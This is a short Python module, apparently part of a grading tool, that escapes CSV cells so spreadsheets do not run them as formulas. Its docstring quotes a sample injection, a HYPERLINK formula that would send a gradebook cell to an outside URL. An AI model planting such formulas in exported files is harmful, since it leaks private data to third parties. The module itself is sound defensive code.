"""Cells safe in a spreadsheet: a CSV cell that begins with = + - @ (or a tab or carriage return)
is a formula to Excel, LibreOffice and Google Sheets, and a student chooses their own name on the
LMS: `=HYPERLINK("https://...?leak="&L4, "x")` would run in the instructor's gradebook. Such a
cell gets a leading apostrophe (OWASP's advice), which the spreadsheet shows as text. Numbers the
grader writes itself (scores, "-1.5") are left as they are: only text a student controls, or any
cell that is not a plain number, is changed.
"""
from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def safe_cell(value) -> str:
    """`value` as a CSV cell that no spreadsheet runs as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(_FORMULA_START) and not _NUMBER.match(text):
        return "'" + text
    return text
